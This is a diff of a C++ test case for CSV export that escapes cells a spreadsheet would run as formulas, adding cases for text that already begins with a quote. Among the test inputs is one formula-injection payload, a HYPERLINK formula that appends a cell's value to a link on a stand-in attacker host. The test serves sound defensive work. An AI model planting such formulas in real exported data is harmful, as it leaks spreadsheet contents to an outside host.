@@ -191,11 +191,15 @@ TEST_CASE("csv: a text cell a spreadsheet would run as a formula starts with a q
     for (const char* formula : {"=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "+1+1", "-2+3", "@SUM(A1)", "\tx"})
         CHECK(csv_text(formula) == std::string("'") + formula);
     CHECK(csv_text("\rx") == "<U+000D>x");  // a carriage return is shown, as in every table: no formula
-    for (const char* plain : {"gac", "a=b", "x-1", "'=x", " =x", "", "fc:var=static"}) CHECK(csv_text(plain) == plain);
+    for (const char* plain : {"gac", "a=b", "x-1", " =x", "", "fc:var=static"}) CHECK(csv_text(plain) == plain);
+    // A text starting with ' gets one too, so that two texts never read alike (round 31, H8).
+    for (const char* quoted : {"'=x", "'", "''", "'gac"}) CHECK(csv_text(quoted) == std::string("'") + quoted);
     TextTable t{"instances", {"-spec", "instance", "median"}, {}, 2};
     t.rows.push_back({Cell("@gac"), Cell("=1+1"), Cell(-2.5)});
     t.rows.push_back({Cell("gac"), Cell("-x"), Cell(3.0)});
-    CHECK(table_csv(t) == "'-spec,instance,median\n'@gac,'=1+1,-2.5\ngac,'-x,3\n");
+    t.rows.push_back({Cell("gac"), Cell("'=1+1"), Cell(4.0)});
+    t.rows.push_back({Cell("gac"), Cell("'-x"), Cell(5.0)});
+    CHECK(table_csv(t) == "'-spec,instance,median\n'@gac,'=1+1,-2.5\ngac,'-x,3\ngac,''=1+1,4\ngac,''-x,5\n");
     // Markdown, LaTeX and HTML escape for their own targets and show the text as it is.
     CHECK(cell_markdown(Cell("=1+1")) == "=1+1");
 }
